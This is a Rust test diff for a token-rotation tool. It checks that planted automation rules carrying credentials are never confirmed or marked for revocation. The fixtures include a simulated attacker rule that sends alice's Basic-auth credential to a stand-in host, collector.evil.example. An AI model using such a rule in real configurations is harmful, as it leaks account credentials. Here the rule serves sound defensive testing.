@@ -324,3 +324,136 @@ fn a_saved_plan_records_the_confirmations_and_apply_never_takes_a_planted_value(
     assert!(p.rule(PLANTED_SITE).contains(&basic(ALICE, &p.fakes[0])));
     assert!(p.failed_logins() <= 4, "two runs, at most two each");
 }
+
+/// A site of `rules` with the admin and alice (`old` and `new` her valid tokens).
+fn site_with(rules: Vec<Value>, old: &str, new: &str, planted: Vec<String>) -> TestSite {
+    let admin = fake_token();
+    let account = |email: &str, tokens: Vec<String>, admin: bool| Account {
+        email: email.into(),
+        account_id: format!("712020:{email}"),
+        admin,
+        tokens: tokens.into_iter().map(Token::new).collect(),
+        revoked_tokens: vec![],
+    };
+    let mut secrets = vec![admin.clone(), old.to_string(), new.to_string()];
+    secrets.extend(planted);
+    SiteSpec {
+        config: SandboxConfig {
+            rules,
+            accounts: vec![
+                account(ADMIN, vec![admin.clone()], true),
+                account(ALICE, vec![old.to_string(), new.to_string()], false),
+            ],
+            ..SandboxConfig::default()
+        },
+        login: ADMIN.into(),
+        admin_token: admin,
+        secrets,
+    }
+    .start()
+}
+
+fn rotate_on(site: &TestSite, new: &str, extra: &[&str]) -> RunOutput {
+    let new_file = site.write_file(&format!("new-{}", uuid::Uuid::new_v4()), new);
+    let mut cmd = site.cmd();
+    cmd.args(["rotate", "--account", ALICE, "--new-token-file"])
+        .arg(&new_file)
+        .arg("--backup-dir")
+        .arg(site.dir.path().join("backups"))
+        .args(extra);
+    site.run_cmd(cmd)
+}
+
+/// Review finding: `--fingerprint` with a short prefix confirmed every value it selected,
+/// and a rule editor can grind an Atlassian-shaped value whose (plain) fingerprint starts
+/// like the real token's. A prefix selects, but only a whole fingerprint naming one value
+/// confirms; the real token is confirmed by its login, the ground value gets nothing.
+#[test]
+fn a_fingerprint_prefix_never_confirms_a_value_ground_to_match_it() {
+    let (old, new) = (fake_token(), fake_token());
+    let want = Fingerprint::of(&old).to_string()[..4].to_string();
+    let junk = (0u64..)
+        .map(|i| format!("ATATT3xFfGF0{i:0>60}"))
+        .find(|j| Fingerprint::of(j).to_string().starts_with(&want))
+        .expect("a value sharing four hex digits");
+    let rules = vec![
+        web_request(
+            REAL,
+            "Real",
+            "{{baseUrl}}/rest/api/3/issue",
+            &basic(ALICE, &old),
+            "ENABLED",
+        ),
+        web_request(
+            PLANTED_JUNK,
+            "Planted: to evil",
+            "https://collector.evil.example/in",
+            &basic(ALICE, &junk),
+            "DISABLED",
+        ),
+    ];
+    let site = site_with(rules, &old, &new, vec![junk.clone()]);
+    let out = rotate_on(
+        &site,
+        &new,
+        &["--yes", "--fingerprint", &want, "--format", "json"],
+    );
+    out.expect_code(3);
+    let evil = site.state().rule(PLANTED_JUNK).unwrap().to_string();
+    assert!(
+        evil.contains(&basic(ALICE, &junk)),
+        "the ground value got nothing"
+    );
+    let real = site.state().rule(REAL).unwrap().to_string();
+    assert!(
+        real.contains(&basic(ALICE, &new)),
+        "the real token, confirmed by login"
+    );
+    assert_eq!(out.json()["confirmed"][0]["evidence"], "login");
+}
+
+/// Review finding: a rerun named for revoking every value of the account in the earlier
+/// run's backups, a planted one beside the real token included, once the admin removed
+/// it. Only what an earlier run wrote over (its journal says) is an old token.
+#[test]
+fn a_rerun_never_names_an_unconfirmed_value_for_revoking() {
+    let (old, new) = (fake_token(), fake_token());
+    let mut mixed = web_request(
+        REAL,
+        "Mixed",
+        "{{baseUrl}}/rest/api/3/issue",
+        &basic(ALICE, &old),
+        "ENABLED",
+    );
+    let evil = web_request(
+        PLANTED_JUNK,
+        "x",
+        "https://collector.evil.example/in",
+        &basic(ALICE, "junk-password-1"),
+        "ENABLED",
+    );
+    let mut planted = evil["rule"]["components"][0].clone();
+    planted["id"] = json!("3");
+    mixed["rule"]["components"]
+        .as_array_mut()
+        .unwrap()
+        .push(planted);
+    let site = site_with(vec![mixed], &old, &new, vec!["junk-password-1".into()]);
+    rotate_on(&site, &new, &["--yes"]).expect_code(3);
+    // The admin removes the planted component the summary listed.
+    site.state().edit_rule(REAL, |r| {
+        r["rule"]["components"].as_array_mut().unwrap().truncate(1);
+    });
+    let out = rotate_on(&site, &new, &["--yes", "--format", "json"]);
+    let json = out.json();
+    let junk = crate::common::keyed_fingerprint("junk-password-1").to_string();
+    assert_eq!(
+        json["old_fingerprints"],
+        json!([Fingerprint::of(&old).to_string()]),
+        "only the replaced token is old; the planted {junk} is not"
+    );
+    assert_eq!(
+        json["verdict"]["revoke_fingerprints"],
+        json!([Fingerprint::of(&old).to_string()])
+    );
+}
